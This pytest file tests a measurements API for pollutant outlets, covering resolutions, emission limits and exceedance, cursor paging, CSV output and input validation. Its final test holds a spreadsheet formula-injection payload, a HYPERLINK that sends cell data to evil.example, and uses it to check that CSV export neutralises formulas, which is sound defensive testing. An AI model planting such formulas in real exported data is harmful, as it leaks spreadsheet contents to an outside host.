"""/v1/outlets/{id}/measurements at every resolution, with limits, judgements and cursors."""

from __future__ import annotations

from typing import Any

import psycopg
import pytest
from fastapi.testclient import TestClient

from tests.api.conftest import World, assert_csv_equals_json, csv_rows, error_of

DAY_27 = "start=2026-11-27T00:00:00Z&end=2026-11-28T00:00:00Z"


def series(client: TestClient, outlet: int, query: str) -> dict[str, Any]:
    response = client.get(f"/v1/outlets/{outlet}/measurements?{query}")
    assert response.status_code == 200, response.text
    body: dict[str, Any] = response.json()
    return body


def test_hourly_means_are_period_ending_with_coverage_limit_and_judgement(
    client: TestClient, world: World
) -> None:
    body = series(client, world.gas, f"pollutant=a21026&resolution=hour&{DAY_27}")
    assert body["meta"] == {
        "page": 1,
        "limit": 100,
        "found": 3,
        "next": None,
        "resolution": "hour",
        "period": {
            "start": {"utc": "2026-11-27T00:00:00Z", "local": "2026-11-27T08:00:00+08:00"},
            "end": {"utc": "2026-11-28T00:00:00Z", "local": "2026-11-28T08:00:00+08:00"},
        },
    }
    compliant, exceeding, invalid = body["results"]
    assert exceeding["datetime"] == {
        "utc": "2026-11-27T02:00:00Z",
        "local": "2026-11-27T10:00:00+08:00",
    }
    assert exceeding["period"]["start"]["utc"] == "2026-11-27T01:00:00Z"
    assert exceeding["period"]["end"] == exceeding["datetime"]
    assert (exceeding["mean"], exceeding["converted"], exceeding["o2"]) == (110.0, 150.0, 10.2)
    assert exceeding["coverage"] == {"valid": 50, "expected": 60}
    assert exceeding["flags"] == {"N": 50, "C": 10}
    assert exceeding["limit"]["value"] == 100.0 and exceeding["limit"]["period"] == "hour"
    assert exceeding["limit"]["source"] == "standard"
    assert exceeding["limit"]["source_document"].startswith("GB 13223-2011")
    # judged on the converted value (the limit has a reference O₂): (150 − 100) / 100
    assert exceeding["exceedance"] == {"value": 150.0, "exceeds": True, "multiple": 0.5}
    assert compliant["exceedance"] == {"value": 80.0, "exceeds": False, "multiple": None}
    assert invalid["valid"] is False and invalid["reason"] == "20 valid minutes < 45"
    assert invalid["exceedance"] is None and invalid["limit"]["value"] == 100.0


def test_raw_values_carry_flag_validity_and_the_hourly_limit(
    client: TestClient, world: World
) -> None:
    body = series(client, world.gas, f"resolution=raw&{DAY_27}")
    points = body["results"]
    assert body["meta"]["found"] == 6 == len(points)
    keys = [(p["datetime"]["utc"], p["pollutant"]["code"], p["kind"]) for p in points]
    assert keys == sorted(keys)
    fault = next(p for p in points if p["flag"] and p["flag"]["code"] == "D")
    assert fault["valid"] is False
    assert fault["flag"]["name"] == {"zh": "在线监控（监测）仪器仪表故障", "en": "instrument fault"}
    normal = next(p for p in points if p["kind"] == "rtd" and p["pollutant"]["code"] == "a21026")
    assert (normal["value"], normal["converted"], normal["valid"]) == (70.5, 75.2, True)
    assert normal["limit"]["value"] == 100.0 and normal["revision"] == 0
    o2 = next(p for p in points if p["pollutant"]["code"] == "a19001")
    assert o2["limit"] is None
    only_min = series(client, world.gas, f"resolution=raw&kind=min&{DAY_27}")["results"]
    assert [p["kind"] for p in only_min] == ["min"]


def test_daily_means_use_the_outlets_own_daily_limit(client: TestClient, world: World) -> None:
    body = series(client, world.gas, "resolution=day&start=2026-11-01&end=2026-11-04")
    assert [p["date"] for p in body["results"]] == ["2026-11-01", "2026-11-02", "2026-11-03"]
    first, second, third = body["results"]
    assert first["period"]["start"]["local"] == "2026-11-01T00:00:00+08:00"
    assert first["datetime"]["local"] == "2026-11-02T00:00:00+08:00"
    assert first["limit"]["source"] == "outlet" and first["limit"]["value"] == 80.0
    assert first["exceedance"] == {"value": 70.0, "exceeds": False, "multiple": None}
    assert second["exceedance"] == {"value": 90.0, "exceeds": True, "multiple": 0.125}
    assert third["valid"] is False and third["exceedance"] is None
    assert first["coverage"] == {"valid": 22, "expected": 24}


def test_monthly_means_average_the_valid_days(client: TestClient, world: World) -> None:
    body = series(client, world.gas, "resolution=month&start=2026-10-01&end=2026-12-01")
    october, november = body["results"]
    assert (october["month"], november["month"]) == ("2026-10", "2026-11")
    assert november["mean"] == 55.0 and november["converted"] == 80.0  # days 1 and 2 only
    assert november["coverage"] == {"valid": 2, "expected": 30}
    assert november["days_with_data"] == 3 and november["limit"] is None
    assert november["period"]["start"]["local"] == "2026-11-01T00:00:00+08:00"
    assert november["datetime"]["local"] == "2026-12-01T00:00:00+08:00"
    later = series(client, world.gas, "resolution=month&start=2026-10-02&end=2026-12-01")
    assert [p["month"] for p in later["results"]] == ["2026-11"]


def test_cursor_pages_through_a_series(client: TestClient, world: World) -> None:
    everything = series(client, world.gas, f"resolution=raw&{DAY_27}")["results"]
    url = f"/v1/outlets/{world.gas}/measurements?resolution=raw&{DAY_27}&limit=4"
    pages = []
    while url:
        response = client.get(url)
        assert response.status_code == 200
        body = response.json()
        pages.append(body)
        url = body["meta"]["next"]
        if url:
            assert response.headers["link"] == f'<{url}>; rel="next"'
    assert [p["meta"]["page"] for p in pages] == [1, 2]
    assert all(p["meta"]["found"] == 6 for p in pages)
    assert [r for p in pages for r in p["results"]] == everything
    exact = series(client, world.gas, f"resolution=raw&{DAY_27}&limit=6")
    assert exact["meta"]["next"] is None


def test_csv_equals_json_for_every_resolution(client: TestClient, world: World) -> None:
    for query in [
        f"resolution=raw&{DAY_27}",
        f"resolution=hour&{DAY_27}",
        "resolution=day&start=2026-10-01&end=2026-12-01",
        "resolution=month&start=2026-10-01&end=2026-12-01",
    ]:
        results = series(client, world.gas, query)["results"]
        response = client.get(f"/v1/outlets/{world.gas}/measurements?{query}&format=csv")
        assert response.headers["content-type"] == "text/csv; charset=utf-8"
        assert_csv_equals_json(
            response.text, results, stored_digits=query.startswith("resolution=hour")
        )
    paged = client.get(f"/v1/outlets/{world.gas}/measurements?resolution=raw&{DAY_27}&limit=2")
    csv_page = client.get(
        f"/v1/outlets/{world.gas}/measurements?resolution=raw&{DAY_27}&limit=2",
        headers={"Accept": "text/csv"},
    )
    assert_csv_equals_json(csv_page.text, paged.json()["results"])
    assert csv_page.headers["link"].endswith('rel="next"')


def test_local_times_without_offset_are_asia_shanghai(client: TestClient, world: World) -> None:
    body = series(client, world.gas, "resolution=hour&start=2026-11-27T09:00&end=2026-11-27T10:00")
    assert [p["period"]["start"]["utc"] for p in body["results"]] == ["2026-11-27T01:00:00Z"]


def test_empty_series_and_defaults(client: TestClient, world: World) -> None:
    body = series(client, world.water, "")
    assert body["results"] == [] and body["meta"]["resolution"] == "hour"
    assert body["meta"]["found"] == 0 and body["meta"]["next"] is None


@pytest.mark.parametrize(
    ("query", "parameter"),
    [
        ("resolution=week", "resolution"),
        ("start=yesterday", "start"),
        ("end=2026-13-01", "end"),
        ("start=2026-11-02&end=2026-11-01", "end"),
        ("resolution=raw&start=2026-11-01&end=2026-11-09", "start"),
        ("resolution=hour&start=2025-01-01&end=2026-11-01", "start"),
        ("pollutant=x99999", "pollutant"),
        ("kind=rtd", "kind"),
        ("resolution=raw&kind=second", "kind"),
        ("cursor=garbage", "cursor"),
        ("cursor=eyJrIjpbIngiLCJ5Il0sInAiOjJ9", "cursor"),  # {"k":["x","y"],"p":2}
        ("limit=0", "limit"),
        ("limit=1001", "limit"),
        ("start=1800-01-01&end=1800-01-02", "end"),
        ("resolution=month&start=1800-01-01", "start"),
        ("pollutant=a%00", "pollutant"),
    ],
)
def test_bad_parameters(client: TestClient, world: World, query: str, parameter: str) -> None:
    response = client.get(f"/v1/outlets/{world.gas}/measurements?{query}")
    error_of(response, 422, parameter)


def test_unknown_outlet_is_404(client: TestClient, world: World) -> None:
    error_of(client.get("/v1/outlets/999999/measurements"), 404, "outlet_id")


EVIL_FLAG = '=HYPERLINK("http://evil.example/?leak="&A1,"fix")'


def test_csv_never_carries_a_formula(
    client: TestClient, db: psycopg.Connection, world: World
) -> None:
    """Issue 15: a flag stored before flags were checked at ingest (or any text) must not
    reach a spreadsheet as a formula; JSON keeps the value as it is."""
    db.execute(
        "INSERT INTO measurements (outlet_id, pollutant, kind, ts, value, flag, received_at)"
        " VALUES (%s, 'a21026', 'min', '2026-11-27T05:00:00Z', -1.5, %s, now())",
        (world.gas, EVIL_FLAG),
    )
    query = f"resolution=raw&pollutant=a21026&{DAY_27}"
    points = series(client, world.gas, query)["results"]
    assert [p["flag"]["code"] for p in points if p["value"] == -1.5] == [EVIL_FLAG]
    rows = csv_rows(client.get(f"/v1/outlets/{world.gas}/measurements?{query}&format=csv").text)
    [evil] = [r for r in rows if r["value"] == "-1.5"]  # a number stays a number
    assert evil["flag_code"] == "'" + EVIL_FLAG
    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r.values())
